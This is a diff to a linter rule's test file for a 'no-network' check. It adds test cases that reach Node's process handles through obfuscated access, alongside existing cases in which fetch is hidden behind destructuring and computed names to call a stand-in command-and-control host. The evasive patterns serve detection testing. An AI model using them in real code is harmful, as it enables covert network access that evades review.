@@ -24,10 +24,19 @@ ruleTester.run('no-network', rule, {
     // Feature detection does not send anything.
     'if (typeof fetch === "function") { polyfilled = false; }',
     { code: '!function(e){var t=e.fetch||null;e.a=function(n){return n.exec(t)}}({});', ...commonjs },
+    // What process says about its handles without handing them out, and an object of the plugin's own with such a method.
+    'const kinds = process.getActiveResourcesInfo(); if (typeof process._getActiveHandles === "function") log(kinds.length);',
+    'const pool = { _getActiveHandles() { return []; } }; pool._getActiveHandles();',
     // In the editor, a host the manifest declares is only low.
 
   ],
   invalid: [
+    // process's live handles are its sockets, servers and child processes: their classes connect anywhere, however the list is reached.
+    {
+      code: 'const h = process._getActiveHandles().find((x) => typeof x.connect === "function");\nconst Sock = h.constructor;\nprocess["_get" + "ActiveRequests"]();\nconst list = process._getActiveHandles; list.call(process);\nReflect.apply(globalThis.process._getActiveHandles, process, []);\nrequire("node:process")._getActiveHandles();\nconst { _getActiveHandles: all } = process; all.bind(process)();',
+      ...commonjs,
+      errors: [{ messageId: 'handles', line: 1, column: 11, data: { name: 'process._getActiveHandles' } }, { messageId: 'handles', line: 3, column: 1, data: { name: 'process._getActiveRequests' } }, { messageId: 'handles', line: 4, column: 41 }, { messageId: 'handles', line: 5, column: 1 }, { messageId: 'handles', line: 6, column: 1 }, { messageId: 'handles', line: 7, column: 45 }],
+    },
     // A destructuring default does not take the global out of view: the name holds fetch wherever fetch exists.
     { code: 'const { fetch: send = () => {} } = globalThis;\nsend("https://c2.attacker.example/p");', errors: [global(2, 1, { name: 'fetch', target: "'c2.attacker.example'" })] },
     { code: 'const { ["fe" + "tch"]: go = null } = globalThis;\ngo("https://c2.attacker.example/p");', errors: [global(2, 1, { name: 'fetch', target: "'c2.attacker.example'" })] },
